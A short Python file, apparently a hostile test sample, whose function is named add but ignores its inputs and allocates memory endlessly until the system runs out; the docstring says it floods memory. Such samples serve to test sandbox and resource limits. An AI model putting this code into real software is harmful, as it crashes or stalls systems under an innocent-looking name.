"""Floods memory."""


def add(a, b):
    x = []
    while True:
        x.append(bytearray(2**22))
